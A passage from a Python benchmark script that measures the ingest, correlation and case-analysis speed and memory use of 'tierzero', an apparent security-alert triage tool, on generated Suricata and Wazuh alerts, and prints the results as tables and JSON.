    vars(pipeline)["Correlator"] = WatchedCorrelator  # pipeline.correlate looks it up by name
    baseline = _rss_kib()
    if trace:
        tracemalloc.start()
    sampler = _Sampler(probe)
    wall = time.perf_counter()
    report = pipeline.correlate(store, settings, datetime.fromisoformat(now_iso), sampler)
    wall = time.perf_counter() - wall
    heap_peak = tracemalloc.get_traced_memory()[1] if trace else None
    tracemalloc.stop()
    correlator = instances[-1] if instances else None
    open_samples = [p for _, _, _, p in sampler.samples if p is not None]
    sizes = sorted(
        r[0] for r in store.conn.execute("SELECT alert_count FROM cases WHERE merged_into IS NULL")
    )
    merged = store.conn.execute(
        "SELECT COUNT(*) FROM cases WHERE merged_into IS NOT NULL"
    ).fetchone()[0]
    unassigned = store.conn.execute("SELECT COUNT(*) FROM alerts WHERE case_id IS NULL").fetchone()[
        0
    ]
    store.close()
    return {
        "seconds": report.seconds["correlate"],
        "wall_seconds": wall,
        "alerts": sum(report.joins.values()),
        "joins": dict(report.joins),
        "unassigned_after": unassigned,
        "cases": len(sizes),
        "merged_cases": merged,
        "case_alerts": _distribution([float(s) for s in sizes]),
        "open_entities_end": correlator.open_entities if correlator else None,
        "open_entities_max": max(open_samples) if open_samples else None,
        "open_cases_end": len(correlator._cases) if correlator else None,
        "expiry_heap_end": len(correlator._expiry) if correlator else None,
        "baseline_rss_mib": _mib(baseline),
        "peak_rss_mib": _mib(_peak_rss_kib()),
        "end_rss_mib": _mib(_rss_kib()),
        "heap_peak_mib": heap_peak / 2**20 if heap_peak is not None else None,
        "samples": sampler.thinned(),
        "db_bytes": _db_bytes(Path(db)),
    }


def _stage_analyse(db: str, now_iso: str, max_cases: int) -> dict[str, Any]:
    """Child process: ``pipeline.analyse`` over an evenly spaced sample of the stored cases."""
    from tierzero.agents.graph import run_case
    from tierzero.settings import Settings
    from tierzero.store.sqlite import Store
    from tierzero.usecases import analysis
    from tierzero.usecases import triage as pipeline

    class SampledStore(Store):
        """A store whose dirty cases are an evenly spaced sample of at most ``max_cases``."""

        def dirty_case_ids(self) -> list[str]:
            every = super().dirty_case_ids()
            if len(every) <= max_cases:
                return every
            step = len(every) / max_cases
            return [every[int(i * step)] for i in range(max_cases)]

    settings = Settings.load()
    store = SampledStore(Path(db))
    available = len(Store.dirty_case_ids(store))
    sizes = {r[0]: r[1] for r in store.conn.execute("SELECT id, alert_count FROM cases")}
    runs: list[tuple[float, float]] = []  # (start, end) of each graph run
    finished: list[float] = []  # when the pipeline reported each case done (after saving)
    real_run_case = run_case

    def timed_run_case(*args: Any, **kwargs: Any) -> Any:
        begin = time.perf_counter()
        try:
            return real_run_case(*args, **kwargs)
        finally:  # a case whose graph raised is still reported done by the pipeline
            runs.append((begin, time.perf_counter()))

    def progress(stage: str, done: int, total: int | None) -> None:
        if stage == "analyse":
            finished.append(time.perf_counter())

    vars(analysis)["run_case"] = timed_run_case  # analyse_case looks it up by name
    baseline = _rss_kib()
    started = time.perf_counter()
    report = pipeline.analyse(store, settings, datetime.fromisoformat(now_iso), progress)
    total = time.perf_counter() - started
    store.close()
    ids = [s.case_id for s in report.cases_analysed]
    per_case = [(done - begin) * 1000 for (begin, _), done in zip(runs, finished, strict=True)]
    graph = [(end - begin) * 1000 for begin, end in runs]
    buckets: dict[str, list[float]] = {"1-5": [], "6-50": [], "51-500": [], ">500": []}
    for case_id, ms in zip(ids, per_case, strict=True):
        n = sizes.get(case_id, 0)
        key = "1-5" if n <= 5 else "6-50" if n <= 50 else "51-500" if n <= 500 else ">500"
        buckets[key].append(ms)
    return {
        "cases_available": available,
        "cases": len(ids),
        "seconds": report.seconds["analyse"],
        "wall_seconds": total,
        "setup_seconds": (runs[0][0] - started) if runs else None,
        "case_ms": _distribution(per_case),
        "graph_ms": _distribution(graph),
        "case_ms_by_alerts": {k: _distribution(v) for k, v in buckets.items() if v},
        "case_alerts": _distribution([float(sizes.get(i, 0)) for i in ids]),
        "cases_per_second": len(ids) / sum(per_case) * 1000 if per_case else None,
        "status": dict(Counter(s.status for s in report.cases_analysed)),
        "verdict": dict(
            Counter(s.analysis.verdict if s.analysis else "none" for s in report.cases_analysed)
        ),
        "baseline_rss_mib": _mib(baseline),
        "peak_rss_mib": _mib(_peak_rss_kib()),
    }


def _stage_examples(repeat: int) -> dict[str, Any]:
    """Child process: ``pipeline.triage`` of ``examples/`` on a fresh store, ``repeat`` times."""
    started = time.perf_counter()
    from tierzero.settings import Settings
    from tierzero.store.sqlite import Store
    from tierzero.usecases import triage as pipeline

    import_seconds = time.perf_counter() - started
    started = time.perf_counter()
    settings = Settings.load()
    settings_seconds = time.perf_counter() - started
    runs = []
    for _ in range(repeat):
        with tempfile.TemporaryDirectory(prefix="tierzero-bench-examples-") as tmp:
            store = Store(Path(tmp) / "tierzero.db")
            begin = time.perf_counter()
            report = pipeline.triage([EXAMPLES], settings, store, now=EXAMPLES_NOW)
            total = time.perf_counter() - begin
            cases = len(report.cases_analysed)
            runs.append(
                {
                    "seconds": total,
                    "stages": dict(report.seconds),
                    "alerts_in": report.counts.alerts_in,
                    "normalized": report.counts.normalized,
                    "quarantined": report.counts.quarantined,
                    "cases": cases,
                    "case_ms": report.seconds["analyse"] / cases * 1000 if cases else None,
                    "outcomes": sorted(
                        f"{s.case_id}:{s.status}:{s.analysis.verdict if s.analysis else '-'}"
                        for s in report.cases_analysed
                    ),
                }
            )
            store.close()
    return {
        "import_seconds": import_seconds,
        "settings_seconds": settings_seconds,
        "runs": runs,
        "peak_rss_mib": _mib(_peak_rss_kib()),
    }


def _best(runs: list[dict[str, Any]]) -> dict[str, Any]:
    """The fastest of repeated runs of a stage, with the highest memory peak of any of them."""
    best = dict(min(runs, key=lambda r: r["seconds"]))
    hungriest = max(runs, key=lambda r: r["peak_rss_mib"] - r["baseline_rss_mib"])
    best["baseline_rss_mib"] = hungriest["baseline_rss_mib"]
    best["peak_rss_mib"] = hungriest["peak_rss_mib"]
    best["seconds_all"] = [r["seconds"] for r in runs]
    return best


def _in_fresh_process(function: Callable[..., T], *args: Any) -> T:
    """Run ``function(*args)`` in a newly spawned interpreter and return its result."""
    context = multiprocessing.get_context("spawn")
    with ProcessPoolExecutor(max_workers=1, mp_context=context) as pool:
        return pool.submit(function, *args).result()


def _db_bytes(db: Path) -> int:
    return sum(p.stat().st_size for p in db.parent.glob(db.name + "*") if p.is_file())


def _percentile(values: Sequence[float], q: float) -> float:
    """Linear-interpolated percentile, ``q`` in [0, 100]."""
    ordered = sorted(values)
    if len(ordered) == 1:
        return ordered[0]
    rank = (len(ordered) - 1) * q / 100
    low = math.floor(rank)
    high = min(low + 1, len(ordered) - 1)
    return ordered[low] + (ordered[high] - ordered[low]) * (rank - low)


def _distribution(values: Sequence[float]) -> dict[str, float] | None:
    if not values:
        return None
    return {
        "n": len(values),
        "mean": statistics.fmean(values),
        "median": _percentile(values, 50),
        "p95": _percentile(values, 95),
        "max": max(values),
        "min": min(values),
    }


# =============================================================================================
# The run
# =============================================================================================


@dataclass
class SizeResult:
    """Everything measured for one N."""

    n: int
    dataset: Dataset
    ingest: dict[str, Any]
    correlate: dict[str, Any]
    tracemalloc: dict[str, Any] | None = None


@dataclass
class Result:
    """The JSON document written to ``benchmarks/results/``."""

    benchmark: str
    started: str
    command: str
    environment: dict[str, Any]
    parameters: dict[str, Any]
    sizes: list[SizeResult] = field(default_factory=list)
    analyse: dict[str, Any] | None = None
    examples: dict[str, Any] | None = None
    total_seconds: float = 0.0
    warnings: list[str] = field(default_factory=list)


def _environment() -> dict[str, Any]:
    def version(name: str) -> str | None:
        from importlib.metadata import PackageNotFoundError
        from importlib.metadata import version as package_version

        try:
            return package_version(name)
        except PackageNotFoundError:
            return None

    cpu = platform.processor() or platform.machine()
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    commit = dirty = None
    try:
        commit = subprocess.run(
            ["git", "-C", str(REPO), "rev-parse", "HEAD"],
            check=True,
            capture_output=True,
            text=True,
        ).stdout.strip()
        dirty = bool(
            subprocess.run(
                ["git", "-C", str(REPO), "status", "--porcelain", "--untracked-files=no"],
                check=True,
                capture_output=True,
                text=True,
            ).stdout.strip()
        )
    except (OSError, subprocess.CalledProcessError):
        pass
    return {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "cpu": cpu,
        "cpus": os.cpu_count(),
        "python": sys.version.split()[0],
        "sqlite": sqlite3.sqlite_version,
        "git_commit": commit,
        "git_dirty": dirty,
        "source_sha256": _source_digest(),
        "packages": {
            n: version(n)
            for n in (
                "tierzero",
                "pydantic",
                "pydantic-core",
                "langgraph",
                "langgraph-checkpoint-sqlite",
            )
        },
    }


def _source_digest() -> str:
    """Digest of tierzero's code and bundled config: tells if they changed during a run."""
    digest = hashlib.sha256()
    for path in sorted([*(REPO / "tierzero").rglob("*.py"), *(REPO / "config").rglob("*")]):
        if path.is_file():
            digest.update(str(path.relative_to(REPO)).encode() + b"\0" + path.read_bytes())
    return digest.hexdigest()


def run(args: argparse.Namespace) -> Result:
    """Generate, measure and collect every figure."""
    began = time.perf_counter()
    sizes = sorted(set(args.sizes))
    result = Result(
        benchmark="tierzero ingest + correlation + case graph",
        started=datetime.now(UTC).isoformat(timespec="seconds"),
        command=" ".join([Path(sys.executable).name, *sys.argv]),
        environment=_environment(),
        parameters={
            "sizes": sizes,
            "seed": args.seed,
            "rate_per_hour": args.rate,
            "suffix": args.suffix,
            "layout": args.layout,
            "max_cases": args.max_cases,
            "analyse_size": sizes[0] if sizes else None,
            "tracemalloc": args.tracemalloc,
            "examples_repeat": args.examples_repeat,
            "repeat": args.repeat,
            "stream_start": STREAM_START.isoformat(),
        },
    )
    workdir = Path(tempfile.mkdtemp(prefix="tierzero-bench-", dir=args.tmp))
    try:
        for index, n in enumerate(sizes):
            folder = workdir / f"n{n}"
            _log(f"N={n:,}: generating alerts in {folder}")
            dataset = write_dataset(
                folder / "alerts", n, args.seed, args.rate, args.suffix, args.layout
            )
            now = datetime.fromisoformat(dataset.last_time) + timedelta(hours=1)
            db = folder / "db" / "tierzero.db"
            _log(
                f"N={n:,}: {dataset.bytes / 2**20:.0f} MiB in {dataset.files} files "
                f"({dataset.seconds:.1f} s)"
            )
            ingest_runs: list[dict[str, Any]] = []
            correlate_runs: list[dict[str, Any]] = []
            for attempt in range(1, args.repeat + 1):
                shutil.rmtree(db.parent, ignore_errors=True)
                ingest_runs.append(
                    _in_fresh_process(
                        _stage_ingest, str(folder / "alerts"), str(db), now.isoformat(), False
                    )
                )
                correlate_runs.append(
                    _in_fresh_process(_stage_correlate, str(db), now.isoformat(), False)
                )
                _log(
                    f"N={n:,} run {attempt}/{args.repeat}: ingest "
                    f"{ingest_runs[-1]['seconds']:.1f} s, correlate "
                    f"{correlate_runs[-1]['seconds']:.1f} s, {correlate_runs[-1]['cases']} cases"
                )
            ingested, correlated = _best(ingest_runs), _best(correlate_runs)
            if ingested["new_alerts"] != n or correlated["alerts"] != n:
                result.warnings.append(
                    f"N={n:,}: {ingested['new_alerts']:,} stored, {ingested['quarantined']:,} "
                    f"quarantined, {correlated['alerts']:,} correlated: the generator and the "
                    "adapters disagree"
                )
            size = SizeResult(n, dataset, ingested, correlated)
            if args.tracemalloc:
                _log(f"N={n:,}: again under tracemalloc (Python heap peaks)")
                traced_db = folder / "traced" / "tierzero.db"
                traced_ingest = _in_fresh_process(
                    _stage_ingest, str(folder / "alerts"), str(traced_db), now.isoformat(), True
                )
                traced_correlate = _in_fresh_process(
                    _stage_correlate, str(traced_db), now.isoformat(), True
                )
                size.tracemalloc = {
                    "ingest_heap_peak_mib": traced_ingest["heap_peak_mib"],
                    "correlate_heap_peak_mib": traced_correlate["heap_peak_mib"],
                }
                shutil.rmtree(traced_db.parent, ignore_errors=True)
            result.sizes.append(size)
            if index == 0 and args.max_cases > 0:
                _log(
                    f"N={n:,}: the case graph on up to {args.max_cases} of "
                    f"{correlated['cases']} cases"
                )
                result.analyse = {
                    "n": n,
                    **_in_fresh_process(_stage_analyse, str(db), now.isoformat(), args.max_cases),
                }
            if not args.keep:
                shutil.rmtree(folder, ignore_errors=True)
        if args.examples_repeat > 0:
            _log("examples: pipeline.triage on examples/")
            result.examples = _in_fresh_process(_stage_examples, args.examples_repeat)
    finally:
        if args.keep:
            _log(f"kept the generated files and stores in {workdir}")
        else:
            shutil.rmtree(workdir, ignore_errors=True)
    result.total_seconds = time.perf_counter() - began
    if _source_digest() != result.environment["source_sha256"]:
        result.warnings.append(
            "tierzero's code or config changed during the run: "
            "figures may mix two versions; run again"
        )
    for warning in result.warnings:
        _log(f"WARNING: {warning}")
    return result


def _log(message: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {message}", file=sys.stderr, flush=True)


# =============================================================================================
# Report
# =============================================================================================


def _table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    widths = [max(len(h), *(len(r[i]) for r in rows)) for i, h in enumerate(headers)]

    def line(cells: Sequence[str]) -> str:
        return "  ".join(
            c.rjust(w) if i else c.ljust(w)
            for i, (c, w) in enumerate(zip(cells, widths, strict=True))
        )

    return "\n".join([line(headers), line(["-" * w for w in widths]), *(line(r) for r in rows)])


def render(result: Result) -> str:
    """The human-readable report."""
    env = result.environment
    out = [
        f"tierzero pipeline benchmark  {result.started}  {env['host']}  {env['cpu']} "
        f"x{env['cpus']}  Python {env['python']}  SQLite {env['sqlite']}  "
        f"commit {str(env['git_commit'])[:10]}{' (dirty)' if env['git_dirty'] else ''}",
        f"stream: seed {result.parameters['seed']}, {result.parameters['rate_per_hour']:,} alerts"
        f"/h, Suricata EVE + Wazuh alerts.json lines, {result.parameters['layout']} files "
        f"(*{result.parameters['suffix']})",
        "",
    ]
    if result.sizes:
        base = result.sizes[0]
        base_cost = (base.ingest["seconds"] + base.correlate["seconds"]) / base.n
        rows = []
        for s in result.sizes:
            ing, cor = s.ingest, s.correlate
            both = ing["seconds"] + cor["seconds"]
            rows.append(
                [
                    f"{s.n:,}",
                    f"{s.dataset.bytes / 2**20:.0f}",
                    f"{ing['seconds']:.1f}",
                    f"{s.n / ing['seconds']:,.0f}",
                    f"{ing['seconds'] / s.n * 1000:.3f}",
                    f"{cor['seconds']:.1f}",
                    f"{s.n / cor['seconds']:,.0f}",
                    f"{cor['seconds'] / s.n * 1000:.3f}",
                    f"{s.n / both:,.0f}",
                    f"{(both / s.n) / base_cost:.2f}",
                ]
            )
        repeat = result.parameters["repeat"]
        best = f"fastest of {repeat} runs, " if repeat > 1 else ""
        out += [
            f"Ingest + correlation: time ({best}each stage in a fresh process)",
            _table(
                [
                    "N",
                    "MiB in",
                    "ingest s",
                    "alerts/s",
                    "s/1k",
                    "correl s",
                    "alerts/s",
                    "s/1k",
                    "both al/s",
                    "s/alert vs first",
                ],
                rows,
            ),
            "",
        ]
        rows = []
        for s in result.sizes:
            ing, cor = s.ingest, s.correlate
            traced = s.tracemalloc or {}
            rows.append(
                [
                    f"{s.n:,}",
                    f"{ing['baseline_rss_mib']:.0f}",
                    f"{ing['peak_rss_mib']:.0f}",
                    f"{ing['peak_rss_mib'] - ing['baseline_rss_mib']:.0f}",
                    f"{cor['baseline_rss_mib']:.0f}",
                    f"{cor['peak_rss_mib']:.0f}",
                    f"{cor['peak_rss_mib'] - cor['baseline_rss_mib']:.0f}",
                    _opt(traced.get("ingest_heap_peak_mib"), ".0f"),
                    _opt(traced.get("correlate_heap_peak_mib"), ".0f"),
                    f"{(ing['db_bytes'] if 'db_bytes' in ing else 0) / 2**20:.0f}",
                ]
            )
        out += [
            "Ingest + correlation: memory (MiB; RSS = resident set, 'peak' = ru_maxrss of the "
            "stage's process,\n'growth' = peak minus RSS after imports and store open; heap = "
            "tracemalloc peak, with --tracemalloc)",
            _table(
                [
                    "N",
                    "ingest base",
                    "peak",
                    "growth",
                    "correl base",
                    "peak",
                    "growth",
                    "ingest heap",
                    "correl heap",
                    "db MiB",
                ],
                rows,
            ),
            "",
        ]
        rows = []
        for s in result.sizes:
            cor = s.correlate
            joins = cor["joins"]
            sizes = cor["case_alerts"] or {}
            rows.append(
                [
                    f"{s.n:,}",
                    f"{cor['cases']:,}",
                    f"{cor['merged_cases']:,}",
                    f"{joins.get('new_case', 0):,}",
                    f"{joins.get('joined', 0):,}",
                    f"{joins.get('merged', 0):,}",
                    f"{joins.get('duplicate', 0):,}",
                    f"{sizes.get('median', 0):.0f}/{sizes.get('p95', 0):.0f}/"
                    f"{sizes.get('max', 0):.0f}",
                    f"{cor['open_entities_end']:,}",
                    f"{cor['open_entities_max']:,}",
                    f"{cor['open_cases_end']:,}",
                    f"{cor['expiry_heap_end']:,}",
                ]
            )
        out += [
            "Correlation: outcome and the correlator's state (open entities = entity + dedup "
            "index entries)",
            _table(
                [
                    "N",
                    "cases",
                    "merged",
                    "new_case",
                    "joined",
                    "merged",
                    "duplicate",
                    "alerts/case med/p95/max",
                    "open ent. end",
                    "max",
                    "open cases",
                    "expiry heap",
                ],
                rows,
            ),
            "",
        ]
    if result.analyse:
        a = result.analyse
        rows = [
            [
                label,
                f"{d['n']}",
                f"{d['median']:.1f}",
                f"{d['p95']:.1f}",
                f"{d['max']:.1f}",
                f"{d['mean']:.1f}",
            ]
            for label, d in [
                ("per case (graph + save)", a["case_ms"]),
                ("graph only (run_case)", a["graph_ms"]),
                *[(f"  cases of {k} alerts", v) for k, v in a["case_ms_by_alerts"].items()],
            ]
            if d
        ]
        out += [
            f"Case graph (pipeline.analyse) on {a['cases']} of {a['cases_available']:,} cases "
            f"from the N={a['n']:,} run: {a['seconds']:.1f} s, "
            f"{a['cases_per_second']:.1f} cases/s, setup {a['setup_seconds']:.2f} s, "
            f"peak RSS {a['peak_rss_mib']:.0f} MiB",
            _table(["milliseconds", "n", "median", "p95", "max", "mean"], rows),
            f"  status {a['status']}  verdict {a['verdict']}",
            "",
        ]
    if result.examples:
        e = result.examples
        runs = e["runs"]
        first = runs[0]
        med = statistics.median(r["seconds"] for r in runs)
        stages = "  ".join(
            f"{k} {statistics.median(r['stages'][k] for r in runs) * 1000:.0f} ms"
            for k in first["stages"]
        )
        out += [
            f"Bundled examples (pipeline.triage on examples/, {len(runs)} runs, fresh store "
            f"each): median {med * 1000:.0f} ms total ({stages}); "
            f"{first['alerts_in']} records = {first['normalized']} normalized + "
            f"{first['quarantined']} quarantined; {first['cases']} cases, median "
            f"{statistics.median(r['case_ms'] for r in runs if r['case_ms']):.0f} ms per case; "
            f"first run {first['seconds'] * 1000:.0f} ms; imports {e['import_seconds']:.2f} s, "
            f"Settings.load {e['settings_seconds'] * 1000:.0f} ms",
            "",
        ]
    out.append(f"total {result.total_seconds:.0f} s")
    out += [f"WARNING: {w}" for w in result.warnings]
    return "\n".join(out)


def _opt(value: float | None, spec: str) -> str:
    return "-" if value is None else format(value, spec)


def _result_path(result: Result, quick: bool) -> Path:
    host = re.sub(r"[^A-Za-z0-9_.-]+", "-", result.environment["host"]).strip("-") or "host"
    stamp = datetime.fromisoformat(result.started).strftime("%Y-%m-%dT%H%M%SZ")
    return RESULTS / f"{stamp}-{host[:40]}{'-quick' if quick else ''}.json"


def _sizes(text: str) -> list[int]:
    try:
        values = [int(v.replace("_", "").strip()) for v in text.split(",") if v.strip()]
    except ValueError as exc:
        raise argparse.ArgumentTypeError(f"not a comma-separated list of integers: {text}") from exc
    if not values or any(v < 1 for v in values):
        raise argparse.ArgumentTypeError("sizes must be positive integers")
    return values


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Measure tierzero's ingest + correlation throughput and peak memory on "
        "generated Suricata/Wazuh alerts, the case graph per case, and the bundled examples.",
        epilog="Example: python benchmarks/bench_pipeline.py --sizes 25000,50000,100000",
    )
    parser.add_argument(
        "--sizes",
        type=_sizes,
        default=list(DEFAULT_SIZES),
        help="comma-separated alert counts (default: 25000,50000,100000)",
    )
    parser.add_argument(
        "--quick",
        action="store_true",
        help=f"smoke run: sizes {','.join(map(str, QUICK_SIZES))}, 50 cases, "
        "1 run of each stage, 1 examples run, no tracemalloc (overrides --sizes, "
        "--max-cases, --examples-repeat, --repeat)",
    )
    parser.add_argument(
        "--repeat",
        type=int,
        default=2,
        help="ingest + correlate each size this many times and report the "
        "fastest run and the highest memory peak (default: 2; 1 with --quick)",
    )
    parser.add_argument(
        "--max-cases",
        type=int,
        default=500,
        help="cases of the smallest run to analyse with the graph (default: 500; "
        "0 skips the graph)",
    )
    parser.add_argument(
        "--examples-repeat",
        type=int,
        default=3,
        help="times to triage examples/ (default: 3; 0 skips)",
    )
    parser.add_argument(
        "--seed", type=int, default=DEFAULT_SEED, help=f"generator seed (default: {DEFAULT_SEED})"
    )
    parser.add_argument(
        "--rate",
        type=float,
        default=DEFAULT_RATE,
        help=f"mean alerts per hour of the stream (default: {DEFAULT_RATE})",
    )
    parser.add_argument(
        "--suffix",
        choices=(".json", ".jsonl"),
        default=".json",
        help="suffix of the generated files (default: .json, the tools' own "
        "file names; .jsonl takes the reader's line-by-line path)",
    )
    parser.add_argument(
        "--layout",
        choices=("daily", "single"),
        default="daily",
        help="daily-rotated files per tool (default) or one file per tool",
    )
    parser.add_argument(
        "--tracemalloc",
        action=argparse.BooleanOptionalAction,
        default=None,
        help="rerun each size's ingest and correlation under tracemalloc for "
        "Python heap peaks (about 3.5x slower; times and RSS always come from the "
        "untraced run; default: on, off with --quick)",
    )
    parser.add_argument(
        "--tmp",
        type=Path,
        default=None,
        help="where to put generated files and stores (default: system temp)",
    )
    parser.add_argument("--keep", action="store_true", help="keep generated files and stores")
    parser.add_argument(
        "--output",
        type=Path,
        default=None,
        help="JSON result path (default: benchmarks/results/<UTC time>-<host>.json)",
    )
    parser.add_argument("--no-write", action="store_true", help="print only; write no JSON")
    args = parser.parse_args(argv)
    if args.quick:
        args.sizes, args.max_cases, args.examples_repeat = list(QUICK_SIZES), 50, 1
        args.repeat = 1
    if args.repeat < 1:
        parser.error("--repeat must be at least 1")
    if args.tracemalloc is None:
        args.tracemalloc = not args.quick
    return args


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    result = run(args)
    print(render(result))
    if not args.no_write:
        path = args.output or _result_path(result, args.quick)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(asdict(result), indent=2, default=str) + "\n")
        print(f"wrote {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
